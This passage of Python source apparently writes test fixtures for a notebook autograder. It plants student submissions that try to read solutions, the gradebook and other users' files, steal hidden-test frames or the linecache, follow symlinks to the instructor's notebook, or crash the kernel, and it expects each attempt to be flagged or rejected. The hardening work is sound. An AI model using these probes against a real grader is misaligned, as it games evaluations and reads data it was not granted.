    noisy = {k: v.replace('    """\n', NOISE, 1) for k, v in w.answers.items() if k != MANUAL_CELL}
    noisy[SP] = noisy[SP].replace(NOISE, NOISE + '    print("debug " * 30_000)\n')
    assert all("warnings.warn" in source for source in noisy.values())
    w.submit("noisy", f, w.answered(**noisy), "graded", w.full, "output truncated")


def reading_hidden(w: _Writer) -> None:
    """Reading what is hidden beyond ON_STUBS: nothing to read in the sandbox, and what the
    kernel does see of the hidden tests must not reach the feedback (the tests check it)."""
    r = "reading-hidden"
    # Solutions, sources, the gradebook, other students' files, root's home, from a notebook that
    # asks for the host's python3 kernel (it must still run in the grading sandbox).
    files = w.prefixed("readfiles", READ_FILES)
    files.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    w.submit("readfiles", r, files, "graded", w.blank)
    # Input history from inside the function a hidden test calls: flagged (In, _ih, Out); the
    # hidden part is not in the history and its output is replaced by pass or fail.
    history = w.answers[SP].replace('    """\n', '    """\n' + HISTORY, 1)
    w.submit("history", r, w.answered(**{SP: history}), "flagged", w.sp_only, "In")
    # The caller's frame and source, stashed during the hidden tests and printed by a later cell.
    frames = "STOLEN = []\n\n\n" + w.answers[SP].replace('    """\n', '    """\n' + FRAMES, 1)
    stash = w.with_cell(w.answered(**{SP: frames}), 'print("\\n".join(STOLEN))', after=None)
    w.submit("frames", r, stash, "flagged", w.sp_only, "_getframe")
    # IPython caches every cell's source for tracebacks, and a later cell prints the cache: the
    # audit names linecache (imported from tracemalloc), and the hidden parts are gone from the
    # cache anyway (the guard drops them), so no output and no feedback shows one.
    linecache = w.with_cell(w.solved(), LINECACHE, after=None)
    w.submit("linecache", r, linecache, "flagged", w.full, "linecache")


def breaking_the_run(w: _Writer) -> None:
    """Files and notebooks that break the run: each gets its own status and message, none stops
    the class. Not graded means no points at all, however good the answers inside."""
    b, places, name = "breaking-the-run", w.places, f"{w.nb.name}.ipynb"
    depth = 200_000
    w.submit("deepjson", b, "[" * depth + "]" * depth, "invalid-json", None, "not valid JSON")
    deep = w.solved()
    nested: list = []
    for _ in range(100):
        nested = [nested]
    deep.cells[0].metadata["deep"] = nested
    w.submit("deepmeta", b, deep, "not-a-notebook", None, "nests deeper")
    as_string = w.solved()
    next(c for c in as_string.cells if is_answer_cell(c)).metadata["nbgrader"] = "solution"
    w.submit("metastring", b, as_string, "bad-metadata", None, "nbgrader metadata is a str")
    as_list = w.solved()
    test = next(c for c in as_list.cells if is_test_cell(c))
    test.metadata["nbgrader"]["grade_id"] = [grade_id(test)]
    w.submit("gradeidlist", b, as_list, "bad-metadata", None, "grade_id")
    points_text = w.solved()
    next(c for c in points_text.cells if is_test_cell(c)).metadata["nbgrader"]["points"] = "100"
    w.submit("pointsstring", b, points_text, "bad-metadata", None, "points")
    # A copied test cell (same grade_id) and a test cell the release never had: the cause must be
    # named (nbgrader itself fails with "KeyError: 'grade_id'").
    copied = w.solved()
    at = next(i for i, c in enumerate(copied.cells) if grade_id(c) == w.first_test)
    twin = copy.deepcopy(copied.cells[at])
    twin.source, twin.id = "pass", "twin-of-a-test"
    copied.cells.insert(at + 1, twin)
    w.submit("duplicateid", b, copied, "bad-metadata", None, w.first_test)
    bonus = w.with_cell(w.solved(), "pass", after=None)
    bonus.cells[-1].metadata["nbgrader"] = {
        "grade": True, "grade_id": "bonus_tests", "locked": True, "points": 100,
        "schema_version": 3, "solution": False,
    }  # fmt: skip
    w.submit("unknowncell", b, bonus, "bad-metadata", None, "bonus_tests")
    w.submit("badtimestamp", b, w.release, "graded", w.blank, "timestamp.txt ignored")
    (w.folder("badtimestamp") / "timestamp.txt").write_text("the day after tomorrow\n")
    # The instructor's source notebook behind a symlink, a FIFO: never opened.
    w.expect("symlink", b, "unsafe-file", None, "symbolic link")
    w.notebook_path("symlink").symlink_to(places.source / ASSIGNMENT / name)
    w.expect("fifo", b, "unsafe-file", None, "not a regular file")
    os.mkfifo(w.notebook_path("fifo"))
    # Folders that are symlinks (to honest1's work): a student's folder must be a folder.
    w.expect("linkstudent", b, "unsafe-file", None, "symbolic link")
    (w.submitted / "linkstudent").symlink_to(w.submitted / "honest1")
    w.expect("linkassignment", b, "unsafe-file", None, "symbolic link")
    (w.submitted / "linkassignment").mkdir()
    (w.submitted / "linkassignment" / ASSIGNMENT).symlink_to(w.submitted / "honest1" / ASSIGNMENT)
    for student, reason in UNSAFE_IDS.items():  # each hands in the full solution
        w.submit(student, b, w.solved(), "unsafe-id", None, reason)
    # Kernels that die after the first test: its points count. os._exit is grader-internal
    # (flagged, which the sheet shows before the death); os.kill of itself is not.
    until_first = points_until(w.full, w.first_test)
    exit0 = w.with_cell(w.solved(), "import os\n\nos._exit(0)\n", after=w.first_test)
    w.submit("exit0", b, exit0, "flagged", until_first, "the kernel died")
    selfkill = w.with_cell(w.solved(), "import os\n\nos.kill(os.getpid(), 9)\n", after=w.first_test)
    w.submit("selfkill", b, selfkill, "kernel-died", until_first, "the kernel died")
    # 30 MB of outputs saved in the notebook: still a notebook (outputs are cleared to grade).
    huge = copy.deepcopy(w.release)
    stub_cell = next(c for c in huge.cells if is_answer_cell(c) and c.cell_type == "code")
    stub_cell.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="x" * (HUGE_MB * 2**20))
    ]
    w.submit("hugenotebook", b, huge, "graded", w.blank)
    w.expect("toobig", b, "unsafe-file", None, "more than a notebook can be")
    with w.notebook_path("toobig").open("wb") as handle:
        handle.truncate(60 * 2**20)  # sparse: 60 MB on paper, nothing on disk
    w.submit("emptyfile", b, b"", "empty", None, "is empty")
    w.expect("zipped", b, "invalid-json", None, "not valid JSON")
    with zipfile.ZipFile(w.notebook_path("zipped"), "w") as archive:
        archive.writestr(name, nbformat.writes(w.solved()))
    w.submit("jsonlist", b, "[1, 2, 3]", "not-a-notebook", None, "not a notebook")
    # Valid JSON holding a lone surrogate (\ud800), which no UTF-8 file can hold: the notebook
    # fails alone, naming the cause.
    surrogate = nbformat.writes(w.release).replace("# YOUR CODE HERE", "# \\ud800", 1)
    w.submit("surrogate", b, surrogate, "autograde-error", None, "surrogates not allowed")
    w.expect("nonotebook", b, "missing", None, f"no {name}")
    (w.folder("nonotebook") / "notes.txt").write_text("my notebook is attached\n")
